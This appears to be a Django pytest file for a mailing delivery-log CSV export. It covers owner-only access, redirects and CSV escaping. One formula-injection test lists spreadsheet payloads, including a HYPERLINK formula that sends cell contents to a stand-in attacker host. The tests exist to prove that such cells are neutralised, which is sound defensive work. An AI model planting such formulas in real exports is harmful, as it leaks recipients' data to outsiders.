"""The CSV export of a mailing's delivery log (`/app/mailings/<id>/log.csv`): the owner's alone,
and every cell read back as the text it was, never as a spreadsheet formula."""

import base64
import csv
import io
from urllib.parse import quote

import pytest
from django.conf import settings
from django.shortcuts import resolve_url
from django.utils.encoding import escape_uri_path

from accounts.tests.factories import ManagerFactory, UserFactory
from mailing.models import DeliveryAttempt
from mailing.tests.test_delivery import make_run

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def log_url(mailing) -> str:
    return f"/app/mailings/{base64.b64encode(f'Mailing:{mailing.pk}'.encode()).decode()}/log.csv"


def read_csv(response) -> list[dict[str, str]]:
    """The rows as a spreadsheet would read them, whatever the delimiter and a BOM."""
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header = text.split("\n", 1)[0]
    delimiter = ";" if header.count(";") > header.count(",") else ","
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.fixture
def mailing(owner, clock):
    mailing, _ = make_run(owner, clock, ["ann@example.org", "bob@example.org"])
    return mailing


def test_the_owner_downloads_the_log_of_their_mailing(client, owner, mailing):
    # given
    client.force_login(owner)

    # when
    response = client.get(log_url(mailing))

    # then
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="mailing-{mailing.pk}-log.csv"'
    assert [(row["email"], row["status"]) for row in read_csv(response)] == [
        ("ann@example.org", "QUEUED"),
        ("bob@example.org", "QUEUED"),
    ]


@pytest.mark.parametrize("viewer", ["another owner", "a manager"])
def test_anyone_else_gets_a_404_that_names_no_row(client, mailing, viewer):
    # given: another owner, or a manager (who oversees mailings, but not their recipients)
    user = UserFactory() if viewer == "another owner" else ManagerFactory()
    client.force_login(user)

    # when
    response = client.get(log_url(mailing))

    # then: as for a mailing that does not exist
    missing = client.get(log_url(type(mailing)(pk=mailing.pk + 1000)))
    assert (response.status_code, missing.status_code) == (404, 404)
    assert b"ann@example.org" not in response.content


def test_a_visitor_is_sent_to_log_in(client, mailing):
    # when
    response = client.get(log_url(mailing))

    # then
    assert response.status_code == 302
    # (the path as the request carries it, escaped once more as a query value: a relay id's "=" padding,
    # which a primary key of some lengths gives, arrives as %253D)
    next_value = quote(escape_uri_path(log_url(mailing)), safe="/")
    assert response["Location"] == f"{resolve_url(settings.LOGIN_URL)}?next={next_value}"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_read_as_text(client, owner, mailing, name):
    # given: a recipient's name (the owner's clients may be imported from anywhere) that starts a formula
    DeliveryAttempt.objects.filter(mailing=mailing, email="ann@example.org").update(full_name=name)
    client.force_login(owner)

    # when
    (ann, bob) = read_csv(client.get(log_url(mailing)))

    # then: the cell does not start a formula, and still reads as the name after its one-character guard
    assert ann["full_name"][:1] not in FORMULA_START
    assert ann["full_name"][1:] == name
    assert bob["full_name"] == "Name bob"


def test_commas_quotes_and_line_breaks_stay_in_their_cell(client, owner, mailing):
    # given: a name and a server reply that would split a naive CSV line
    DeliveryAttempt.objects.filter(mailing=mailing, email="ann@example.org").update(
        full_name='Smith, Ann "Annie";\nsecond line', server_response="451 4.2.1 Busy, try later; really"
    )
    client.force_login(owner)

    # when
    (ann, bob) = read_csv(client.get(log_url(mailing)))

    # then
    assert (ann["full_name"], ann["server_response"]) == (
        'Smith, Ann "Annie";\nsecond line',
        "451 4.2.1 Busy, try later; really",
    )
    assert (bob["email"], bob["full_name"]) == ("bob@example.org", "Name bob")
